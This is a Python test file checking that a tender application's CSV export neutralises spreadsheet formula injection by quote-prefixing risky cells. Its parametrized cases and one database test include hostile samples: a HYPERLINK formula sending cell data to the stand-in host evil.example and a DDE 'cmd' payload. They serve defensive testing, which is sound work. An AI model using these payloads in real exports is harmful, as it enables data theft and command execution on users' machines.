"""The CSV export never hands a spreadsheet a formula from a publisher's text (OWASP, CSV
injection), and keeps numbers, dates and ordinary text as they are."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from sqlalchemy.ext.asyncio import AsyncSession

from src.domain.tender.services import TenderService
from src.domain.tender.services.export import EXPORT_FIELDS, csv_cell, csv_row, export_rows
from tests.support.api import record


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example","clic")', '\'=HYPERLINK("http://evil.example","clic")'),
        ("+39 06 1234", "'+39 06 1234"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Lavori = manutenzione - lotto 1", "Lavori = manutenzione - lotto 1"),
        ("", ""),
        (None, ""),
        (Decimal("-1250.50"), "-1250.50"),
        (datetime(2025, 3, 1, 9, 0, tzinfo=UTC), "2025-03-01T09:00:00+00:00"),
    ],
)
def test_cells(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


async def test_an_exported_tender_cannot_run_a_formula(db_session: AsyncSession) -> None:
    hostile = record(
        1,
        title='=HYPERLINK("http://evil.example/?"&A1,"Apri")',
        description="-2+3",
        buyer_name="@SUM(1)",
        amount="-10.00",
    )
    await TenderService.upsert_many(db_session, [hostile])
    rows = [csv_row(row) async for row in export_rows(db_session)]
    [row] = [r for r in rows if r["cig"] == hostile.cig]
    assert row["title"] == "'" + hostile.title
    assert row["description"] == "'-2+3"
    assert row["buyer_name"] == "'@SUM(1)"
    assert row["amount"] == "-10.00", "a number is not text: it keeps its sign"
    output = io.StringIO()
    writer = csv.DictWriter(output, fieldnames=EXPORT_FIELDS)
    writer.writerow(row)
    [read_back] = csv.DictReader(io.StringIO(output.getvalue()), fieldnames=EXPORT_FIELDS)
    formulas = [name for name, value in read_back.items() if value.startswith(("=", "+", "@"))]
    assert formulas == []
